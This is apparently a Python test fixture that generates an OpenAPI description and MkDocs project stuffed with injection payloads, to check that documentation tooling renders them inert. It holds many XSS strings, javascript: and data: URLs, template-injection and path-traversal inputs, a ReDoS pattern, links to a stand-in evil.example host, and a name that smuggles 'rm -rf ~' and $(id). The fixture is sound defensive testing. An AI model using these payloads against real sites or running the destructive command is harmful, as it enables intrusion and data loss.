"""A description whose every string tries to come to life: if one does, it sets `window.canary` and opens a dialog."""

import itertools
import json
from pathlib import Path
from typing import Any

FIRED = "window.canary=1,alert(1)"
TEXTS = (
    f"<img src=x onerror={FIRED}>",
    f"<script>{FIRED}</script>",
    f'<svg onload="{FIRED}"><math><template>',
    f"\"'><script>{FIRED}</script><b onmouseover={FIRED}>",
    f"</code></pre></dd></dl></article><form action=//evil.example><input autofocus onfocus={FIRED}></form>",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'><iframe src=//evil.example>",
    f"[a](javascript:{FIRED}) [b](JaVaScRiPt:{FIRED}) [c](java&Tab;script:{FIRED}) [d](<java\tscript:{FIRED}>)",
    f"[e](data:text/html,<script>{FIRED}</script>) [f](vbscript:{FIRED}) <javascript:{FIRED}> ![g](javascript:{FIRED})",
    f"# Heading {{: onclick={FIRED} style=position:fixed }}\n{{: onclick={FIRED} style=position:fixed }}",
    "{{ config }}{% include '/etc/passwd' %}{{ ''.__class__ }} ${canary} `canary` $(id)",
    '--8<-- "/etc/passwd"\n![h](../../../etc/passwd) ![i](https://evil.example/pixel.png)',
    "\u202egnp.exe\u2066 🚪 \u200b\ufeff",
)
NAMES = (
    f'"><script>{FIRED}</script>',
    f"<img src=x onerror={FIRED}>",
    "../../x",
    "con",
    "n" * 320,
    "🚪",
    "\u202egnp.exe",
    "__proto__",
    "constructor",
    "toString",
    'a\'; rm -rf ~ #`id`$(id)"""',
)
LINKS = (
    f"javascript:{FIRED}",
    f" JaVaScRiPt:{FIRED}",
    f"java\tscript:{FIRED}",
    f"java\nscript:{FIRED}",
    f"\x01javascript:{FIRED}",
    f"data:text/html,<script>{FIRED}</script>",
    "vbscript:canary",
    f'https://a.example/"onmouseover="{FIRED}',
)
METHODS = ("get", "post", "put", "patch", "delete")
UNREACHABLE = "http://127.0.0.1:9/v1"
"""The only server that may be called; the discard port, where nobody listens."""


class Canaries:
    """Gives each place of a description its payloads; `turn` decides which of them comes first."""

    def __init__(self, turn: int) -> None:
        self.turn = turn
        self._endless = itertools.cycle(TEXTS[turn:] + TEXTS[:turn])

    @property
    def text(self) -> str:
        """The next payloads for a text, one paragraph each."""
        return "\n\n".join(itertools.islice(self._endless, 3))

    @property
    def short(self) -> str:
        """One payload on one line."""
        return TEXTS[self.turn % len(TEXTS)].replace("\n", " ")

    @property
    def link(self) -> str:
        return LINKS[self.turn % len(LINKS)]

    def names(self, count: int = len(NAMES)) -> tuple[str, ...]:
        """Payloads for names, all different."""
        return tuple(NAMES[(self.turn + index) % len(NAMES)] for index in range(count))

    def schema(self) -> dict[str, Any]:
        text = self.text
        extra = {"description": text, "title": self.short, "externalDocs": {"url": self.link, "description": text}}
        return {
            "type": "object",
            **extra,
            "required": list(self.names(3)),
            "properties": {name: self._property(name) for name in self.names()},
            "additionalProperties": {"type": "string", **extra},
            "discriminator": {"propertyName": self.short, "mapping": {self.short: self.short}},
            "x-canary": text,
        }

    def _property(self, name: str) -> dict[str, Any]:
        return {
            "type": ["string", "null"],
            "description": self.text,
            "title": self.short,
            "enum": [self.short, name, *TEXTS[:3]],
            "default": self.short,
            "examples": [self.short, self.text],
            "pattern": f"((a+)+)+$|{self.short}",
            "format": self.short,
            "contentMediaType": self.short,
            "x-enumDescriptions": {name: self.text},
            "x-enum-varnames": [self.short, self.short],
        }

    def parameters(self, names: tuple[str, ...]) -> list[dict[str, Any]]:
        places = ("query", "header", "cookie")
        return [
            {
                "name": name,
                "in": place,
                "description": self.text,
                "example": self.text,
                "required": index == 0,
                "deprecated": index == 1,
                "schema": self._property(name),
            }
            for place in places
            for index, name in enumerate(names)
        ]

    def content(self) -> dict[str, Any]:
        media = {
            "schema": {"oneOf": [{"$ref": f"#/components/schemas/Canary{self.turn}"}, self.schema()]},
            "examples": {
                name: {"summary": self.short, "description": self.text, "value": {name: self.text}}
                for name in self.names(4)
            },
            "x-canary": self.text,
        }
        return {"application/json": media, self.short: media, "text/event-stream": media}

    def operation(self) -> dict[str, Any]:
        response = {
            "description": self.text,
            "headers": {name: {"description": self.text, "schema": self._property(name)} for name in self.names(4)},
            "content": self.content(),
            "links": {
                name: {"operationId": self.short, "description": self.text, "parameters": {name: self.text}}
                for name in self.names(3)
            },
        }
        return {
            "operationId": f"{self.turn} {self.names(1)[0]}",
            "summary": f"{self.turn} {self.short}",
            "description": self.text,
            "tags": [self._tag(), self.short],
            "externalDocs": {"url": self.link, "description": self.text},
            "deprecated": self.turn % 2 == 1,
            "x-sunset": self.short,
            "x-replaced-by": self.short,
            "x-codeSamples": [{"lang": self.short, "label": self.short, "source": self.text}],
            "parameters": self.parameters(self.names(5)),
            "requestBody": {"description": self.text, "required": True, "content": self.content()},
            "responses": {"200": response, "default": response},
            "callbacks": {self.short: {self.short: {"post": {"summary": self.short, "responses": {"200": response}}}}},
            "security": [{name: [self.short]} for name in ("key", "oauth", self.short)],
        }

    def _tag(self) -> str:
        return f"{self.turn} {self.names(1)[0]}"

    def tag(self) -> dict[str, Any]:
        docs = {"url": self.link, "description": self.text}
        return {"name": self._tag(), "summary": self.short, "description": self.text, "externalDocs": docs}


def security_schemes(canaries: list[Canaries]) -> dict[str, Any]:
    """Schemes of every type, with payloads where there are texts and URLs."""
    first = canaries[0]
    flow = dict(zip(("authorizationUrl", "tokenUrl", "refreshUrl"), LINKS[:3], strict=True))
    schemes: dict[str, Any] = {
        "key": {"type": "apiKey", "in": "header", "name": "X-Key", "description": first.text},
        "oauth": {
            "type": "oauth2",
            "description": first.text,
            "flows": {
                kind: {**flow, "scopes": dict.fromkeys(first.names(), first.text)}
                for kind in ("authorizationCode", "implicit", "clientCredentials")
            },
        },
    }
    for one in canaries:
        schemes[one.short] = {
            "type": "openIdConnect",
            "openIdConnectUrl": one.link,
            "description": one.text,
            "x-canary": one.text,
        }
        schemes[f"{one.turn} named"] = {"type": "apiKey", "in": "query", "name": one.short, "description": one.text}
    return schemes


def hostile_description(turns: int = 5) -> dict[str, Any]:
    """Return a description with payloads in every string; one operation and one schema for each turn."""
    canaries = [Canaries(turn * 2) for turn in range(turns)]
    first = canaries[0]
    schemas = {f"Canary{one.turn}": one.schema() for one in canaries}
    schemas |= {name: {"type": "object", "description": first.text} for name in NAMES}
    return {
        "openapi": "3.1.0",
        "info": {
            "title": first.short,
            "version": first.short,
            "summary": first.short,
            "description": first.text,
            "termsOfService": LINKS[0],
            "contact": {"name": first.text, "url": LINKS[1], "email": f'a@b"onclick="{FIRED}'},
            "license": {"name": first.text, "url": LINKS[2], "identifier": first.short},
            "x-logo": {"url": LINKS[0], "href": LINKS[0], "altText": first.text},
        },
        "externalDocs": {"url": LINKS[5], "description": first.text},
        "servers": [
            {"url": UNREACHABLE, "description": first.short},
            *({"url": link, "description": first.text} for link in LINKS),
            {
                "url": "https://{canary}.example/{path}",
                "description": TEXTS[1],
                "variables": {
                    "canary": {"default": "gw@evil.example/#", "description": first.text, "enum": list(NAMES)},
                    "path": {"default": TEXTS[0], "description": first.text},
                },
            },
        ],
        "tags": [one.tag() for one in canaries],
        "x-tagGroups": [{"name": one.short, "tags": [one.tag()["name"]]} for one in canaries],
        "paths": {
            f"/canary/{one.turn}/{{id}}/{TEXTS[one.turn % 4]}": {
                "summary": one.short,
                "description": one.text,
                "parameters": [
                    {"name": "id", "in": "path", "required": True, "schema": {"type": "string"}, "example": one.short}
                ],
                METHODS[index % len(METHODS)]: one.operation(),
            }
            for index, one in enumerate(canaries)
        },
        "webhooks": {
            one.short: {"post": one.operation() | {"operationId": f"hook {one.turn}"}} for one in canaries[:2]
        },
        "components": {"schemas": schemas, "securitySchemes": security_schemes(canaries)},
    }


CONFIGURATION = """\
site_name: Canaries
site_url: https://docs.example/canaries/
theme: {name: material, features: [navigation.instant, search.suggest, search.highlight, search.share]}
plugins:
  - gatepost/gateway: {openapi: api.json}
  - gatepost/reference
  - gatepost/console
  - gatepost/search
"""


def hostile_project(folder: Path) -> Path:
    """Write a project whose description is hostile; return its folder."""
    (folder / "docs").mkdir(parents=True)
    (folder / "docs/index.md").write_text("# Guide\n\nHello canary.\n")
    (folder / "api.json").write_text(json.dumps(hostile_description()))
    (folder / "mkdocs.yml").write_text(CONFIGURATION)
    return folder
